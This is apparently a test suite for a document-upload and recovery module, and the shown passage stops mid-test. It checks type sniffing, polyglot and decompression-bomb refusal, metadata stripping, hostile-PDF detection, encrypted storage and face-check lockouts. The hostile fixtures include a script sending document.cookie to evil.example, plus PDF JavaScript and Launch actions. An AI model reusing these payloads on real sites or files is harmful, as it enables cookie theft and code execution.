import { createHash, randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import type { DocumentKind } from '@/lib/db/generated/client';
import { AppError } from '@/lib/errors';
import {
  DocumentUnreadableError,
  FACE_CHECK_MAX_ATTEMPTS,
  getFaceCheckStatus,
  inspectUpload,
  manualReviewFaceCheck,
  MAX_UPLOAD_BYTES,
  MAX_PIXELS,
  createDecodePool,
  purgeExpiredDocuments,
  readDocument,
  recordFaceCheckAttempt,
  storeDocument,
  type DocumentStore,
  type FaceCheckOutcome,
  type InspectedFile,
  type Inspection,
} from '@/lib/recovery/documents';
import { documentDigest } from '@/lib/recovery/documents/store';
import { useTestDatabase } from '../support/db';
import { exifIfd0Tags, jpeg, objectStream, pdf, photo, png, pngClaimingSize, solid } from '../support/images';

const { db } = await useTestDatabase();
const masterKey = randomBytes(32);
const NOW = new Date('2026-05-01T12:00:00Z');
const MINUTE = 60_000;
const DAY = 24 * 60 * MINUTE;
const agent = { actorType: 'AGENT' as const, actorId: null, ip: '203.0.113.7', userAgent: 'vitest' };

async function createTicket(data: { closedAt?: Date | null } = {}) {
  return db.recoveryTicket.create({
    data: {
      reference: `RG-${randomBytes(5).toString('hex').toUpperCase()}`,
      type: 'FULL_RECOVERY',
      contactEmail: 'person@example.com',
      slaDueAt: new Date(NOW.getTime() + DAY),
      closedAt: data.closedAt ?? null,
    },
  });
}

async function accepted(bytes: Buffer, kind: DocumentKind = 'ID_FRONT') {
  const result = await inspectUpload({ bytes, kind });
  if (!result.ok) throw new Error(`expected the file to be accepted, got ${result.reason}: ${result.message}`);
  return result;
}

function refusal(result: Inspection) {
  expect(result.ok).toBe(false);
  return result as Extract<Inspection, { ok: false }>;
}

async function storedPhoto(ticketId: string, kind: DocumentKind = 'ID_FRONT') {
  const { image, checkResult } = await accepted(await jpeg(800, 1000), kind);
  const doc = await storeDocument({ db, masterKey, ticketId, kind, image, checkResult, now: NOW });
  return { doc, image };
}

describe('upload checks: type from content (docs/security.md rule 18)', () => {
  it.each([
    ['JPEG', 'jpeg', 'image/jpeg'],
    ['PNG', 'png', 'image/png'],
    ['WebP', 'webp', 'image/jpeg'],
  ] as const)('accepts a %s photo and stores a re-encoded copy', async (_name, format, storedAs) => {
    const input = await photo(900, 1200).toFormat(format).withExif({ IFD0: { Software: 'camera-marker' } }).toBuffer();
    expect((await sharp(input).metadata()).exif).toBeDefined();
    const { image, checkResult } = await accepted(input);
    expect(image.mimeType).toBe(storedAs);
    expect([image.width, image.height]).toEqual([900, 1200]);
    expect(image.data.equals(input)).toBe(false);
    const meta = await sharp(image.data).metadata();
    expect(meta.format).toBe(storedAs === 'image/png' ? 'png' : 'jpeg');
    expect(meta.exif).toBeUndefined();
    expect(image.data.includes('camera-marker')).toBe(false);
    expect(checkResult).toEqual({ ok: true, problems: [] });
  });

  it('turns the photo upright by its EXIF orientation before the tag is dropped', async () => {
    const sideways = await photo(1000, 700).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    const { image } = await accepted(sideways);
    expect([image.width, image.height]).toEqual([700, 1000]);
    expect((await sharp(image.data).metadata()).orientation).toBeUndefined();
  });

  it.each([
    ['an ELF executable', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), randomBytes(4096)])],
    ['a Windows executable', Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), randomBytes(4096)])],
    ['a ZIP archive', Buffer.concat([Buffer.from('PK\x03\x04\x14\x00', 'latin1'), randomBytes(4096)])],
    ['an HTML page', Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>')],
    ['an SVG image (sharp could render it)', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><script>alert(1)</script></svg>')],
    ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1')],
  ])('refuses %s named passport.jpg', async (_name, bytes) => {
    const result = refusal(await inspectUpload({ bytes, kind: 'ID_FRONT', declaredName: 'passport.jpg' }));
    expect(result.reason).toBe('unsupported_type');
    expect(result.message).toBe("This file isn't a photo we can read. Upload a JPEG, PNG or WebP photo (or a PDF scan of the document).");
  });

  it('does not mention PDF to someone uploading a selfie', async () => {
    const result = refusal(await inspectUpload({ bytes: Buffer.from('MZ\x90\x00', 'latin1'), kind: 'SELFIE' }));
    expect(result.message).toBe("This file isn't a photo we can read. Upload a JPEG, PNG or WebP photo.");
  });

  it('refuses an empty file', async () => {
    expect(refusal(await inspectUpload({ bytes: Buffer.alloc(0), kind: 'ID_BACK' })).reason).toBe('empty');
  });

  it('refuses HEIF that is not HEIC (an AVIF) and a HEIC it cannot decode, with a way forward', async () => {
    const avif = await solid(700, 700, '#336699').avif().toBuffer();
    expect(refusal(await inspectUpload({ bytes: avif, kind: 'ID_FRONT' })).reason).toBe('unsupported_type');
    // What an iPhone photo starts with, followed by nothing decodable.
    const heic = Buffer.concat([Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic', 'latin1'), randomBytes(2048)]);
    const result = refusal(await inspectUpload({ bytes: heic, kind: 'ID_FRONT' }));
    expect(result.reason).toBe('heic_unreadable');
    expect(result.message).toContain('Most Compatible');
  });
});

describe('upload checks: polyglots', () => {
  // A JPEG followed by other data is not refused: Android "motion photos" append a video after the
  // image. What makes it safe is that the stored file is written anew from the decoded pixels, so
  // nothing after the image (or hidden in its metadata) survives, and the original bytes are
  // never stored.
  it('a JPEG with a ZIP and a script appended is stored without either', async () => {
    const clean = await jpeg(800, 1000);
    const zip = Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), randomBytes(256), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
    const html = Buffer.from('<html><script>fetch("https://evil.example/"+document.cookie)</script></html>');
    const polyglot = Buffer.concat([clean, zip, html]);
    const { image, checkResult } = await accepted(polyglot);
    for (const marker of ['PK\x03\x04', 'PK\x05\x06', '<script', '<html']) expect(image.data.includes(marker, 0, 'latin1')).toBe(false);
    expect(image.data.includes(zip)).toBe(false);

    const ticket = await createTicket();
    const doc = await storeDocument({ db, masterKey, ticketId: ticket.id, kind: 'ID_FRONT', image, checkResult, now: NOW });
    const opened = await readDocument({ db, masterKey, ticketId: ticket.id, documentId: doc.id, viewer: agent, now: NOW });
    expect(opened.bytes.equals(image.data)).toBe(true);
    expect(opened.bytes.includes('<script')).toBe(false);
    expect(doc.sha256).not.toBe(createHash('sha256').update(polyglot).digest('hex'));
  });

  it.each([
    ['HTML first, JPEG after', async () => Buffer.concat([Buffer.from('<html><script>alert(1)</script><!--'), await jpeg(800, 1000)])],
    ['ZIP first, JPEG after (GIFAR-style)', async () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), randomBytes(64), await jpeg(800, 1000)])],
    ['junk before a PDF', async () => Buffer.concat([Buffer.from('<html>'), pdf()])],
  ])('refuses a file whose first bytes are not the image: %s', async (_name, make) => {
    expect(refusal(await inspectUpload({ bytes: await make(), kind: 'ID_FRONT' })).reason).toBe('unsupported_type');
  });
});

describe('upload checks: size, pixels and damage', () => {
  it('refuses a 60-megapixel PNG from its header, before decoding it', async () => {
    const flood = await solid(8000, 7500, '#ffffff').png().toBuffer();
    expect(flood.length).toBeLessThan(MAX_UPLOAD_BYTES); // small file, huge image
    const result = refusal(await inspectUpload({ bytes: flood, kind: 'ID_FRONT' }));
    expect(result.reason).toBe('too_many_pixels');
    expect(result.message).toContain('more than 50 megapixels');

    // This one carries one row of pixel data: decoding it would fail as damaged. Being refused for
    // its size shows the decision was made from the header alone.
    expect(refusal(await inspectUpload({ bytes: pngClaimingSize(8000, 7500), kind: 'ID_FRONT' })).reason).toBe('too_many_pixels');
    // The same sliver under the limit is decoded, and so found damaged.
    expect(refusal(await inspectUpload({ bytes: pngClaimingSize(1000, 1000), kind: 'ID_FRONT' })).reason).toBe('corrupt');
  });

  // Decompression-bomb guard: pixels per byte, from the header (FREE_PIXELS, MAX_PIXELS_PER_BYTE).
  it('refuses a tiny PNG of 49 megapixels from its header, without a decode', async () => {
    const bomb = await solid(7000, 7000, '#ffffff').png({ palette: true, colours: 2, compressionLevel: 9 }).toBuffer();
    expect(7000 * 7000).toBeLessThan(MAX_PIXELS); // under the flat pixel limit: only the ratio stops it
    expect(bomb.length).toBeLessThan(64 * 1024);
    // A pool that refuses every decode: a refusal for the ratio proves no decode was asked for.
    const noDecodes = createDecodePool({ concurrency: 0, queue: 0 });
    const result = refusal(await inspectUpload({ bytes: bomb, kind: 'ID_FRONT', pool: noDecodes }));
    expect(result.reason).toBe('too_compressed');
    expect(result.message).toContain('original photo');
  });

  it.each([
    ['a 12-megapixel phone JPEG', () => jpeg(4032, 3024)],
    ['a 20-megapixel camera JPEG', () => jpeg(5472, 3648)],
    ['a 150-dpi A4 PNG scan', () => png(1240, 1754)],
    ['a white 300-dpi A4 PNG scan (about 260 pixels a byte, inside the allowance)', () => solid(2480, 3508, '#ffffff').png().toBuffer()],
    ['a blank 800 x 1000 PNG (a retake warning, not a refusal)', () => solid(800, 1000, '#fafafa').png().toBuffer()],
  ])('lets real photos and scans through the pixel-to-byte guard: %s', async (_name, make) => {
    const bytes = await make();
    const result = await inspectUpload({ bytes, kind: 'ID_FRONT' });
    expect(result.ok ? 'accepted' : result.reason).toBe('accepted');
  });

  it('refuses with a retry message when the decode queue is full, instead of queueing without end', async () => {
    const pool = createDecodePool({ concurrency: 1, queue: 0 });
    let release!: () => void;
    const busy = pool.run(() => new Promise<void>((resolve) => (release = resolve)));
    const error = await inspectUpload({ bytes: await jpeg(800, 1000), kind: 'ID_FRONT', pool }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AppError);
    expect(error).toMatchObject({ code: 'rate_limited', retryAfterSeconds: expect.any(Number) });
    release();
    await busy;
    expect((await inspectUpload({ bytes: await jpeg(800, 1000), kind: 'ID_FRONT', pool })).ok).toBe(true);
  });

  it('refuses a truncated JPEG', async () => {
    const full = await jpeg(800, 1000);
    const result = refusal(await inspectUpload({ bytes: full.subarray(0, Math.floor(full.length * 0.6)), kind: 'ID_FRONT' }));
    expect(result.reason).toBe('corrupt');
    expect(result.message).toContain('looks incomplete');
  });

  it('refuses a file over 10 MB before looking inside it', async () => {
    const big = Buffer.concat([await jpeg(800, 1000), Buffer.alloc(MAX_UPLOAD_BYTES)]);
    const result = refusal(await inspectUpload({ bytes: big, kind: 'ID_FRONT' }));
    expect(result.reason).toBe('too_large');
    expect(result.message).toContain('larger than 10 MB');
    expect((await inspectUpload({ bytes: Buffer.alloc(MAX_UPLOAD_BYTES + 1, 0xff), kind: 'SELFIE' })).ok).toBe(false);
  });

  it.each([
    ['ID_FRONT', 900, 599, false],
    ['ID_FRONT', 900, 600, true],
    ['ID_BACK', 500, 400, false],
    ['SELFIE', 480, 640, true],
    ['SELFIE', 479, 640, false],
  ] as const)('minimum resolution: %s %i x %i accepted = %s', async (kind, width, height, ok) => {
    const result = await inspectUpload({ bytes: await jpeg(width, height), kind });
    expect(result.ok).toBe(ok);
    if (!result.ok) {
      expect(result.reason).toBe('too_small');
      if (kind !== 'SELFIE') expect(result.message).toBe('This photo is too small to read. Take it closer, with all four corners visible.');
    }
  });

  it('reports a dark or blank photo as a warning to retake, not a refusal', async () => {
    const dark = await accepted(await solid(800, 1000, '#050505').jpeg().toBuffer());
    expect(dark.checkResult.problems.map((p) => p.code)).toEqual(['too_dark', 'nearly_blank']);
    const washedOut = await accepted(await solid(800, 1000, '#fafafa').png().toBuffer());
    expect(washedOut.checkResult.problems.map((p) => p.code)).toEqual(['too_bright', 'nearly_blank']);
    expect(washedOut.checkResult.problems[0]!.message).toContain('glare');
  });
});

describe('upload checks: metadata is stripped (EXIF GPS)', () => {
  it('removes EXIF with the GPS position, and every other metadata block', async () => {
    const withGps = await photo(800, 1000)
      .jpeg()
      .withExif({
        IFD0: { Make: 'PhoneMaker', Model: 'Phone 15', ImageDescription: 'home-address-marker' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 2652/100', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 3951/100' },
      })
      .toBuffer();
    const before = await sharp(withGps).metadata();
    expect(exifIfd0Tags(before.exif!)).toContain(0x8825); // the GPS IFD is there
    expect(withGps.includes('home-address-marker')).toBe(true);

    for (const kind of ['ID_FRONT', 'SELFIE'] as const) {
      const { image } = await accepted(withGps, kind);
      const after = await sharp(image.data).metadata();
      expect(after.exif).toBeUndefined();
      expect(after.xmp).toBeUndefined();
      expect(after.iptc).toBeUndefined();
      expect(image.data.includes('home-address-marker')).toBe(false);
      expect(image.data.includes('PhoneMaker')).toBe(false);
    }
  });

  it('strips text chunks from PNGs too', async () => {
    const tagged = await photo(800, 1000).png().withXmp('<x:xmpmeta><secret-location/></x:xmpmeta>').toBuffer();
    expect((await sharp(tagged).metadata()).xmp?.toString()).toContain('secret-location');
    const { image } = await accepted(tagged);
    expect(image.mimeType).toBe('image/png');
    const after = await sharp(image.data).metadata();
    expect(after.xmp).toBeUndefined();
    expect(after.exif).toBeUndefined();
  });
});

describe('upload checks: PDF scans of the document sides', () => {
  // Rule 29: a PDF is rendered to page images and only those are kept (documents-pdf.test.ts has
  // the hostile files).
  it('accepts a plain PDF for the front and back as an image of its page, never as sent', async () => {
    const file = pdf();
    for (const kind of ['ID_FRONT', 'ID_BACK'] as const) {
      const { image, pages, checkResult } = await accepted(file, kind);
      expect(pages).toHaveLength(1);
      expect(image.mimeType).toMatch(/^image\/(png|jpeg)$/);
      expect(image.data.includes('%PDF')).toBe(false);
      expect(image.width).toBeGreaterThan(600);
      expect(image.height).toBeGreaterThan(600);
      expect(checkResult.source).toEqual({ format: 'pdf', page: 1, pages: 1 });
    }
  });

  it.each(['SELFIE', 'EXTRA'] as const)('refuses a PDF as %s', async (kind) => {
    expect(refusal(await inspectUpload({ bytes: pdf(), kind })).reason).toBe('pdf_not_allowed');
  });

  it.each([
    ['a JavaScript open action', { catalogExtra: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }, 'pdf_active_content'],
    ['a document-level script', { catalogExtra: '/Names << /JavaScript 4 0 R >>', objects: ['<< /Names [(x) << /S /JavaScript /JS (this.exportDataObject()) >>] >>'] }, 'pdf_active_content'],
    ['a script name written with #xx escapes', { catalogExtra: '/OpenAction << /S /J#61va#53cript /JS (app.alert(1)) >>' }, 'pdf_active_content'],
    ['a script inside a compressed object stream', { objects: [objectStream('<< /S /JavaScript /JS (app.alert(1)) >>')] }, 'pdf_active_content'],
    ['a Launch action', { catalogExtra: '/OpenAction << /S /Launch /F (cmd.exe) >>' }, 'pdf_active_content'],
    ['an embedded file', { catalogExtra: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', objects: ['<< /Type /Filespec /F (a.exe) >>'] }, 'pdf_active_content'],
    ['an XFA form', { catalogExtra: '/AcroForm << /XFA 4 0 R >>', objects: ['<< >>'] }, 'pdf_active_content'],
    ['an object stream in an encoding the check cannot read', { objects: ['<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >>\nstream\n35203020\nendstream'] }, 'pdf_uncheckable'],
    ['encryption', { trailerExtra: '/Encrypt << /Filter /Standard /V 2 >>' }, 'pdf_encrypted'],
  ])('refuses a PDF with %s', async (_name, options, reason) => {
    const result = refusal(await inspectUpload({ bytes: pdf(options), kind: 'ID_FRONT' }));
    expect(result.reason).toBe(reason);
    expect(result.message).toMatch(/PDF/);
  });

  it('refuses a PDF without its end-of-file marker, or with a ZIP stuck on the end', async () => {
    const file = pdf();
    const cut = file.subarray(0, file.lastIndexOf('%%EOF'));
    expect(refusal(await inspectUpload({ bytes: cut, kind: 'ID_FRONT' })).reason).toBe('corrupt');
    const withZip = Buffer.concat([file, Buffer.from('PK\x03\x04', 'latin1'), randomBytes(4000)]);
    expect(refusal(await inspectUpload({ bytes: withZip, kind: 'ID_FRONT' })).reason).toBe('corrupt');
    const zipInside = Buffer.concat([Buffer.from('%PDF-1.4\nPK\x03\x04', 'latin1'), pdf().subarray(9)]);
    expect(refusal(await inspectUpload({ bytes: zipInside, kind: 'ID_FRONT' })).reason).toBe('pdf_active_content');
  });

  it('looks inside ordinary compressed streams without refusing them', async () => {
    const content = deflateSync(Buffer.from('BT /F1 12 Tf 72 712 Td (Passport scan) Tj ET'));
    const page = Buffer.concat([Buffer.from(`<< /Length ${content.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'), content, Buffer.from('\nendstream', 'latin1')]);
    expect((await inspectUpload({ bytes: pdf({ objects: [page] }), kind: 'ID_BACK' })).ok).toBe(true);
  });
});

describe('encrypted storage (docs/security.md rule 19)', () => {
  it('stores the file encrypted with its own key and reads it back', async () => {
    const ticket = await createTicket();
    const { image, checkResult } = await accepted(await jpeg(800, 1000));
    const doc = await storeDocument({ db, masterKey, ticketId: ticket.id, kind: 'ID_FRONT', image, checkResult, now: NOW });
    expect(doc).toMatchObject({ ticketId: ticket.id, kind: 'ID_FRONT', mimeType: 'image/jpeg', width: 800, height: 1000, byteSize: image.data.length, createdAt: NOW });
    // Keyed (only the server can confirm a guess about the file), never the plain SHA-256.
    expect(doc.sha256).toBe(documentDigest(masterKey, image.data));
    expect(doc.sha256).not.toContain(createHash('sha256').update(image.data).digest('hex'));
    expect(doc.sha256).not.toBe(documentDigest(randomBytes(32), image.data));

    const row = await db.ticketDocument.findUniqueOrThrow({ where: { id: doc.id } });
    expect(row.iv).toHaveLength(12);
    expect(row.authTag).toHaveLength(16);
    expect(row.wrappedKey).toHaveLength(12 + 16 + 32);
    expect(row.ciphertext).toHaveLength(image.data.length);
    expect(Buffer.from(row.ciphertext!).equals(image.data)).toBe(false);
    expect(Buffer.from(row.ciphertext!).includes(image.data.subarray(0, 64))).toBe(false);
    expect(row.storageKey).toBeNull();
    expect(row.checkResult).toEqual({ ok: true, problems: [] });

    const opened = await readDocument({ db, masterKey, ticketId: ticket.id, documentId: doc.id, viewer: agent, now: NOW });
    expect(opened).toMatchObject({ id: doc.id, kind: 'ID_FRONT', mimeType: 'image/jpeg', width: 800, height: 1000 });
    expect(opened.bytes.equals(image.data)).toBe(true);
  });

  it('uses a fresh data key for every file', async () => {
    const ticket = await createTicket();
    const { image, checkResult } = await accepted(await jpeg(800, 1000));
    const a = await storeDocument({ db, masterKey, ticketId: ticket.id, kind: 'ID_FRONT', image, checkResult, now: NOW });
    const b = await storeDocument({ db, masterKey, ticketId: ticket.id, kind: 'ID_FRONT', image, checkResult, now: NOW });
    const rows = await db.ticketDocument.findMany({ where: { id: { in: [a.id, b.id] } } });
    expect(Buffer.from(rows[0]!.ciphertext!).equals(Buffer.from(rows[1]!.ciphertext!))).toBe(false);
    expect(Buffer.from(rows[0]!.wrappedKey).equals(Buffer.from(rows[1]!.wrappedKey))).toBe(false);
  });

  it('records every open in the audit log, with who and from where', async () => {
    const ticket = await createTicket();
    const { doc } = await storedPhoto(ticket.id);
    await readDocument({ db, masterKey, ticketId: ticket.id, documentId: doc.id, viewer: agent, now: NOW });
    const events = await db.auditEvent.findMany({ where: { subjectId: doc.id } });
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ action: 'document.viewed', actorType: 'AGENT', ip: '203.0.113.7', userAgent: 'vitest', subjectType: 'ticket_document' });
    expect(events[0]!.data).toEqual({ ticketId: ticket.id, kind: 'ID_FRONT' });
  });

  it('opens nothing through another ticket (no IDOR)', async () => {
    const mine = await createTicket();
    const theirs = await createTicket();
    const { doc } = await storedPhoto(theirs.id);
    const attempt = readDocument({ db, masterKey, ticketId: mine.id, documentId: doc.id, viewer: agent, now: NOW });
    await expect(attempt).rejects.toMatchObject({ code: 'not_found' });
    await expect(readDocument({ db, masterKey, ticketId: mine.id, documentId: 'not-a-uuid', viewer: agent, now: NOW })).rejects.toMatchObject({ code: 'not_found' });
  });

  type Row = { ciphertext: Uint8Array<ArrayBuffer> | null; iv: Uint8Array<ArrayBuffer>; authTag: Uint8Array<ArrayBuffer>; wrappedKey: Uint8Array<ArrayBuffer>; mimeType: string };
  const flip = (bytes: Uint8Array, at = 0) => {
    const copy = new Uint8Array(bytes);
    copy[at % copy.length]! ^= 0x01;
    return copy;
  };
  it.each<[string, (row: Row) => Partial<Row>]>([
    ['a flipped byte in the ciphertext', (row) => ({ ciphertext: flip(row.ciphertext!, 1000) })],
    ['a flipped byte in the IV', (row) => ({ iv: flip(row.iv) })],
    ['a flipped byte in the tag', (row) => ({ authTag: flip(row.authTag, 15) })],
    ['a flipped byte in the wrapped key', (row) => ({ wrappedKey: flip(row.wrappedKey, 40) })],
    ['a truncated wrapped key', (row) => ({ wrappedKey: row.wrappedKey.slice(0, 20) })],
    ['a changed file type', () => ({ mimeType: 'image/png' })],
  ])('refuses to open a document with %s', async (_name, tamper) => {
    const ticket = await createTicket();
    const { doc } = await storedPhoto(ticket.id);
    const row = await db.ticketDocument.findUniqueOrThrow({ where: { id: doc.id } });
    await db.ticketDocument.update({ where: { id: doc.id }, data: tamper(row) });
    const error = await readDocument({ db, masterKey, ticketId: ticket.id, documentId: doc.id, viewer: agent, now: NOW }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(DocumentUnreadableError);
    expect(error).not.toBeInstanceOf(AppError); // the error mapper answers 500 with a generic message
    const events = await db.auditEvent.findMany({ where: { subjectId: doc.id } });
    expect(events.map((e) => e.action)).toEqual(['document.open_failed']);
  });

  it('a wrapped key (or a whole encrypted file) moved to another row does not open', async () => {
    const ticket = await createTicket();
    const { doc: a } = await storedPhoto(ticket.id);
    const { doc: b } = await storedPhoto(ticket.id);
    const rowA = await db.ticketDocument.findUniqueOrThrow({ where: { id: a.id } });

    await db.ticketDocument.update({ where: { id: b.id }, data: { wrappedKey: rowA.wrappedKey } });
    await expect(readDocument({ db, masterKey, ticketId: ticket.id, documentId: b.id, viewer: agent, now: NOW })).rejects.toMatchObject({
      name: 'DocumentUnreadableError',
      problem: 'key_unwrap_failed',
    });

    // Everything copied, digest included: still bound to document A's id.
    const { ciphertext, iv, authTag, wrappedKey, sha256 } = rowA;
    await db.ticketDocument.update({ where: { id: b.id }, data: { ciphertext, iv, authTag, wrappedKey, sha256 } });
    await expect(readDocument({ db, masterKey, ticketId: ticket.id, documentId: b.id, viewer: agent, now: NOW })).rejects.toBeInstanceOf(DocumentUnreadableError);
  });

  it('does not open with another master key', async () => {
    const ticket = await createTicket();
    const { doc } = await storedPhoto(ticket.id);
    await expect(readDocument({ db, masterKey: randomBytes(32), ticketId: ticket.id, documentId: doc.id, viewer: agent, now: NOW })).rejects.toBeInstanceOf(
      DocumentUnreadableError,
    );
  });

  it('writes nothing for a ticket that does not exist', async () => {
    const { image, checkResult } = await accepted(await jpeg(800, 1000));
    const before = await db.ticketDocument.count();
    const ghost = '01890000-0000-7000-8000-000000000000';
    await expect(storeDocument({ db, masterKey, ticketId: ghost, kind: 'ID_FRONT', image, checkResult, now: NOW })).rejects.toMatchObject({ code: 'not_found' });
    expect(await db.ticketDocument.count()).toBe(before);
  });

  it('with an external store: keeps only ciphertext there, and removes it again if the row cannot be written', async () => {
    const objects = new Map<string, Uint8Array>();
    const store: DocumentStore = {
      async put({ documentId, ciphertext }) {
        objects.set(`documents/${documentId}`, ciphertext);
        return { ciphertext: null, storageKey: `documents/${documentId}` };
      },
      async get(row) {
        return row.storageKey ? (objects.get(row.storageKey) ?? null) : null;
      },
      async remove(key) {
        objects.delete(key);
      },
    };
    const ticket = await createTicket();
    const { image, checkResult } = await accepted(await jpeg(800, 1000));
    const doc = await storeDocument({ db, masterKey, ticketId: ticket.id, kind: 'ID_BACK', image, checkResult, now: NOW, store });
    const row = await db.ticketDocument.findUniqueOrThrow({ where: { id: doc.id } });
    expect(row.ciphertext).toBeNull();
    expect(Buffer.from(objects.get(row.storageKey!)!).equals(image.data)).toBe(false);
    const opened = await readDocument({ db, masterKey, ticketId: ticket.id, documentId: doc.id, viewer: agent, now: NOW, store });
    expect(opened.bytes.equals(image.data)).toBe(true);

    const ghost = '01890000-0000-7000-8000-000000000001';
    await expect(storeDocument({ db, masterKey, ticketId: ghost, kind: 'ID_BACK', image, checkResult, now: NOW, store })).rejects.toMatchObject({ code: 'not_found' });
    expect([...objects.keys()]).toEqual([row.storageKey]);

    expect(await purgeExpiredDocuments({ db, now: new Date(NOW.getTime() + DAY), store: { ...store }, retentionDays: 90 })).toBe(0);
    await db.ticketDocument.update({ where: { id: doc.id }, data: { deleteAfter: NOW } });
    expect(await purgeExpiredDocuments({ db, now: NOW, store })).toBe(1);
    expect(objects.size).toBe(0);
  });

  it('only inspected files can be stored (checked by the type system)', () => {
    const raw = { mimeType: 'image/jpeg', width: 1, height: 1, data: Buffer.alloc(1) };
    // @ts-expect-error a plain object is not an InspectedFile
    const file: InspectedFile = raw;
    expect(file).toBe(raw);
  });
});

describe('face check (5 tries, then a 30-minute wait)', () => {
  const info = async (bytes: Buffer, kind: DocumentKind = 'SELFIE') => (await accepted(bytes, kind)).image;

  it('is ready for an agent to compare by eye when the selfie is usable and the front is there', async () => {
    const selfie = await info(await jpeg(720, 960));
    const documentFront = await info(await jpeg(1200, 800), 'ID_FRONT');
    expect(await manualReviewFaceCheck.check({ selfie, documentFront })).toEqual({ status: 'ready_for_review' });
    // Landscape is fine too, and a PDF front counts as a front.
    expect(await manualReviewFaceCheck.check({ selfie: await info(await jpeg(960, 720)), documentFront: await info(pdf(), 'ID_FRONT') })).toEqual({
      status: 'ready_for_review',
    });
  });

  it.each<[string, () => Promise<{ selfie: Awaited<ReturnType<typeof info>> | { mimeType: string; width: number; height: number; data: Buffer }; front: boolean }>, string]>([
    ['no document front yet', async () => ({ selfie: await info(await jpeg(720, 960)), front: false }), 'document_front_missing'],
    ['a PDF as the selfie', async () => ({ selfie: { mimeType: 'application/pdf', width: 800, height: 800, data: pdf() }, front: true }), 'selfie_not_a_photo'],
    ['a selfie that is too small', async () => ({ selfie: { mimeType: 'image/jpeg', width: 900, height: 900, data: await jpeg(400, 400) }, front: true }), 'selfie_too_small'],
    ['a strip, not a selfie', async () => ({ selfie: await info(await jpeg(1600, 500)), front: true }), 'selfie_framing'],
    ['a dark selfie', async () => ({ selfie: await info(await photo(720, 960, { mean: 15, spread: 8 }).jpeg().toBuffer()), front: true }), 'selfie_too_dark'],
    ['a blank selfie', async () => ({ selfie: await info(await solid(720, 960, '#7f7f7f').jpeg().toBuffer()), front: true }), 'selfie_blank'],
  ])('asks for a retry for %s', async (_name, make, reason) => {
    const { selfie, front } = await make();
    const documentFront = front ? await info(await jpeg(1200, 800), 'ID_FRONT') : undefined;
    const outcome = await manualReviewFaceCheck.check({ selfie, documentFront });
    expect(outcome).toMatchObject({ status: 'retry', reason });
    expect(outcome.status === 'retry' && outcome.message.length).toBeGreaterThan(20);
    expect(JSON.stringify(outcome)).not.toMatch(/score|confidence|match/i);
  });

  const failed: FaceCheckOutcome = { status: 'retry', reason: 'selfie_too_dark', message: 'dark' };
  const ready: FaceCheckOutcome = { status: 'ready_for_review' };

  it('allows 5 failed attempts, then waits 30 minutes and says until when (UTC)', async () => {
    const ticket = await createTicket();
    for (let i = 1; i <= 4; i++) {
      const attempt = await recordFaceCheckAttempt({ db, ticketId: ticket.id, outcome: failed, now: NOW });
      expect(attempt).toMatchObject({ attemptsUsed: i, attemptsLeft: 5 - i, lockedUntil: null });
    }
    const fifth = await recordFaceCheckAttempt({ db, ticketId: ticket.id, outcome: failed, now: new Date(NOW.getTime() + 20_000) });
    const until = new Date(NOW.getTime() + 20_000 + 30 * MINUTE);
    expect(fifth).toMatchObject({ attemptsUsed: 5, attemptsLeft: 0, lockedUntil: until });
    expect(await getFaceCheckStatus({ db, ticketId: ticket.id, now: NOW })).toEqual({ attemptsLeft: 0, lockedUntil: until });

    const later = new Date(NOW.getTime() + 10 * MINUTE);
    for (const outcome of [failed, ready]) {
      const error = await recordFaceCheckAttempt({ db, ticketId: ticket.id, outcome, now: later }).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(AppError);
      expect(error).toMatchObject({ code: 'rate_limited', status: 429, retryAfterSeconds: 20 * 60 + 20 });
      // 12:30:20 is shown as 12:31, a minute when trying again works.
      expect((error as AppError).userMessage).toBe('You’ve used all 5 tries of the face check. For your security, you can try again at 12:31 UTC on 1 May 2026.');
    }
    const row = await db.recoveryTicket.findUniqueOrThrow({ where: { id: ticket.id } });
    expect(row.faceCheckAttempts).toBe(5);

    // Just before the end: still refused. At the end: a new round of 5.
    await expect(recordFaceCheckAttempt({ db, ticketId: ticket.id, outcome: failed, now: new Date(until.getTime() - 1) })).rejects.toMatchObject({ code: 'rate_limited' });
    expect(await getFaceCheckStatus({ db, ticketId: ticket.id, now: until })).toEqual({ attemptsLeft: 5, lockedUntil: null });
    const fresh = await recordFaceCheckAttempt({ db, ticketId: ticket.id, outcome: failed, now: until });
    expect(fresh).toMatchObject({ attemptsUsed: 1, attemptsLeft: 4, lockedUntil: null });
  });

  it('a usable selfie does not use up an attempt, nor does uploading it before the front', async () => {
    const ticket = await createTicket();
    await recordFaceCheckAttempt({ db, ticketId: ticket.id, outcome: failed, now: NOW });
    const ok = await recordFaceCheckAttempt({ db, ticketId: ticket.id, outcome: ready, now: NOW });
    expect(ok).toMatchObject({ attemptsUsed: 1, attemptsLeft: 4 });
    const outOfOrder: FaceCheckOutcome = { status: 'retry', reason: 'document_front_missing', message: 'front first' };
    expect(await recordFaceCheckAttempt({ db, ticketId: ticket.id, outcome: outOfOrder, now: NOW })).toMatchObject({ attemptsUsed: 1 });
  });

  it('10 failing attempts at once record exactly 5 and refuse the rest', async () => {
    const ticket = await createTicket();
